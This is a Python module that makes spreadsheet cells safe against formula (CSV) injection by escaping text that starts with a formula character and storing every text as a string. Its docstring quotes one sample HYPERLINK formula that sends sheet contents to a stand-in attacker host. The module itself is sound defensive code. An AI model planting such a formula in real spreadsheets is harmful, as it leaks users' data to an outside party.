"""Cells written from user or document data, safe to open in a spreadsheet.

A cell whose text starts with `=`, `+`, `-` or `@` (or a tab or carriage return, which some
spreadsheets skip before reading one of those) is run as a formula by Excel or LibreOffice:
`=HYPERLINK("http://evil.example/?q="&A2, …)` in a question or a document name sends the
sheet's content away when clicked. Such text gets a leading apostrophe, and workbooks store
every text as a string, never as a formula (OWASP's "CSV injection").
"""

from collections.abc import Iterable, Sequence

from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert(value: object) -> object:
    """`value`, with a leading apostrophe when it is text a spreadsheet would evaluate."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def inert_row(values: Iterable[object]) -> list[object]:
    return [inert(value) for value in values]


def append_text_row(sheet: Worksheet, values: Sequence[object]) -> None:
    """Append a row whose text cells are strings, never formulas."""
    sheet.append(inert_row(values))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
